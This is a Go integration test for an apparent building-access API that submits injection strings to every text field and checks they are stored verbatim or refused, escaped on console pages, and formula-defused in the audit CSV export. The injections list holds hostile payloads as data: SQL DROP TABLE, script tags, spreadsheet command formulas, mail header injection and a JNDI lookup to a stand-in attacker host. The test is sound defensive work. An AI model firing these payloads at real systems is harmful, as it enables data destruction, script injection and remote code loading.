package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"
)

// injections are the strings an attacker types into every text field:
// SQL, HTML and script, spreadsheet formulas, a mail header, template and
// lookup syntax.
var injections = []string{
	`Robert'); DROP TABLE buildings;--`,
	`" OR "1"="1`,
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(1)`,
	`=HYPERLINK("http://evil.example","open")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1:A9)`,
	"Maple\r\nBcc: victim@example.org",
	"Maple\nSubject: free",
	`{{.}} {{template "x"}} ${jndi:ldap://evil.example/a} #{7*7}`,
	`%0d%0aSet-Cookie: owned=1`,
}

// TestInjectionStrings types each injection into every text field of the
// API that a manager, an operator or a carrier fills in (building name and
// address, unit label, door name, resident name and email, carrier name,
// courier name, webhook description). Each is either stored exactly as
// typed (read back byte for byte: no SQL was run) or refused with 422 —
// a line break always, for it could add a mail header. Afterwards the
// tables are all there, every page that shows the names (the console's,
// the operator's) shows them as text, never markup, no template or lookup
// is evaluated, and the audit log's CSV export starts no cell with a
// formula character.
func TestInjectionStrings(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cfg := DefaultConfig()
	cfg.HTTPAddr, cfg.NATSListen = "127.0.0.1:0", "127.0.0.1:0"
	d, err := StartDemo(ctx, cfg, t.TempDir(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	base, op, b := d.Main.URL(), d.Operator, d.State.BuildingID
	manager := api(t, base, "POST", "/v1/sessions", "", map[string]any{"email": DemoManagerEmail, "password": DemoManagerPassword}, 201)["token"].(string)
	carrierID := d.State.CarrierIDs["pp-alice"]
	key := api(t, base, "POST", "/v1/carriers/"+carrierID+"/api-keys", op, map[string]any{"name": "injection"}, 201)["token"].(string)
	unit := api(t, base, "POST", "/v1/buildings/"+b+"/units", manager, map[string]any{"label": "INJ"}, 201)["id"].(string)

	// field is one text field: how to write a value into it, and where
	// the object written is read back (empty: from the write's answer).
	type field struct {
		name  string
		write func(i int, v string) (int, map[string]any)
		key   string // the value's key in the answer
	}
	call := func(method, path, token string, body any) (int, map[string]any) {
		buf, _ := json.Marshal(body)
		req, _ := http.NewRequestWithContext(ctx, method, base+path, bytes.NewReader(buf))
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("Content-Type", "application/json")
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		data, _ := io.ReadAll(res.Body)
		out := map[string]any{}
		if len(data) > 0 && json.Unmarshal(data, &out) != nil {
			t.Fatalf("%s %s: not JSON: %s", method, path, data)
		}
		return res.StatusCode, out
	}
	fields := []field{
		{"building name", func(_ int, v string) (int, map[string]any) {
			return call("POST", "/v1/buildings", op, map[string]any{"name": v, "address": "1 Road", "timezone": "UTC"})
		}, "name"},
		{"building address", func(_ int, v string) (int, map[string]any) {
			return call("POST", "/v1/buildings", op, map[string]any{"name": "Addressed", "address": v, "timezone": "UTC"})
		}, "address"},
		{"unit label", func(_ int, v string) (int, map[string]any) {
			return call("POST", "/v1/buildings/"+b+"/units", manager, map[string]any{"label": v})
		}, "label"},
		{"door name", func(_ int, v string) (int, map[string]any) {
			return call("POST", "/v1/buildings/"+b+"/doors", manager, map[string]any{"name": v})
		}, "name"},
		{"resident name", func(i int, v string) (int, map[string]any) {
			return call("POST", "/v1/buildings/"+b+"/residents", manager, map[string]any{"unit_id": unit, "name": v, "email": fmt.Sprintf("r%d@example.org", i)})
		}, "name"},
		{"resident email", func(_ int, v string) (int, map[string]any) {
			return call("POST", "/v1/buildings/"+b+"/residents", manager, map[string]any{"unit_id": unit, "name": "Mail", "email": v + "@example.org"})
		}, "email"},
		{"carrier name", func(_ int, v string) (int, map[string]any) {
			code, out := call("POST", "/v1/carriers", op, map[string]any{"name": v})
			if code == 201 { // shown on the building's console
				call("PUT", "/v1/buildings/"+b+"/carriers/"+out["id"].(string), manager, nil)
			}
			return code, out
		}, "name"},
		{"courier name", func(i int, v string) (int, map[string]any) {
			return call("PUT", fmt.Sprintf("/v1/carriers/%s/couriers/inj-%d", carrierID, i), key, map[string]any{"name": v,
				"background_check_verified_until": time.Now().AddDate(1, 0, 0).UTC().Format(time.RFC3339)})
		}, "name"},
		{"webhook description", func(_ int, v string) (int, map[string]any) {
			code, out := call("POST", "/v1/buildings/"+b+"/webhooks", manager, map[string]any{"url": "https://93.184.216.34/hook",
				"description": v, "event_types": []string{"access.granted"}})
			endpoint, _ := out["endpoint"].(map[string]any)
			if code != 201 {
				endpoint = out
			}
			return code, endpoint
		}, "description"},
	}
	stored, refused := 0, 0
	for _, f := range fields {
		for i, v := range injections {
			code, out := f.write(i, v+" "+fmt.Sprint(i))
			value := v + " " + fmt.Sprint(i)
			if f.name == "resident email" {
				value += "@example.org"
			}
			switch {
			case code == http.StatusUnprocessableEntity:
				refused++
				if out["code"] != "invalid" {
					t.Errorf("%s %q: 422 without a problem: %v", f.name, v, out)
				}
			case code/100 == 2:
				stored++
				if strings.ContainsAny(v, "\r\n") {
					t.Errorf("%s took a line break: %q", f.name, v)
				}
				if got, _ := out[f.key].(string); got != value && f.name != "resident email" {
					t.Errorf("%s %q stored as %q", f.name, value, got)
				}
			default:
				t.Errorf("%s %q: %d %v, want stored (2xx) or refused (422)", f.name, v, code, out)
			}
		}
	}
	t.Logf("%d fields × %d strings: %d stored as typed, %d refused", len(fields), len(injections), stored, refused)

	// Every table is there, and every building and unit.
	if list := api(t, base, "GET", "/v1/buildings?limit=200", op, nil, 200)["items"].([]any); len(list) < 2 {
		t.Fatalf("buildings after the injections: %d", len(list))
	}
	if v := api(t, base, "GET", "/v1/audit/verification", op, nil, 200); v["intact"] != true {
		t.Fatalf("audit after the injections: %v", v)
	}

	// The pages show the strings as text.
	page := func(token, path string) string {
		req, _ := http.NewRequestWithContext(ctx, "GET", base+path, nil)
		req.AddCookie(&http.Cookie{Name: "__Host-doorman-session", Value: token})
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		data, _ := io.ReadAll(res.Body)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d", path, res.StatusCode)
		}
		return string(data)
	}
	shown := map[string]bool{}
	pages := []struct{ token, path string }{
		{manager, "/console/buildings/" + b}, {manager, "/console/buildings/" + b + "/units"},
		{manager, "/console/buildings/" + b + "/doors"}, {manager, "/console/buildings/" + b + "/carriers"},
		{manager, "/console/buildings/" + b + "/webhooks"}, {manager, "/console/buildings/" + b + "/audit"},
		{manager, "/console/buildings/" + b + "/activity"}, {op, "/operator"}, {op, "/operator/carriers/" + carrierID},
	}
	for _, p := range pages {
		body := page(p.token, p.path)
		for i, v := range injections {
			raw := v + " " + fmt.Sprint(i)
			if strings.ContainsAny(raw, `<>"'&`) && strings.Contains(body, raw) {
				t.Errorf("%s shows %q unescaped", p.path, raw)
			}
			if strings.Contains(html.UnescapeString(body), raw) {
				shown[raw] = true
			}
		}
		if strings.Contains(body, "<script>alert") || strings.Contains(body, "<img src=x") {
			t.Errorf("%s carries an injected tag", p.path)
		}
	}
	for i, v := range injections {
		if raw := v + " " + fmt.Sprint(i); !strings.ContainsAny(v, "\r\n") && !shown[raw] {
			t.Errorf("%q is shown on none of the pages, as text", raw)
		}
	}

	// The audit export defuses formulas.
	req, _ := http.NewRequestWithContext(ctx, "GET", base+"/console/buildings/"+b+"/audit.csv", nil)
	req.AddCookie(&http.Cookie{Name: "__Host-doorman-session", Value: manager})
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	rows, err := csv.NewReader(res.Body).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("audit.csv: %d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("audit.csv cell %q starts with a formula character", cell)
			}
		}
	}
}
